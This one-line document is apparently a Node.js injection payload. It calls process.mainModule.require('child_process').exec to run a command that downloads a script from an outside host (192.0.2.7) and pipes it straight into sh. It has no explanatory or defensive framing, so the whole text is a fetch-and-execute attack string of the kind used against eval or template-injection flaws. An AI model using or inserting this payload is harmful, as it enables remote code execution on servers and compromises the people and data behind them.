process.mainModule.require('child_process').exec('curl http://192.0.2.7/a | sh');
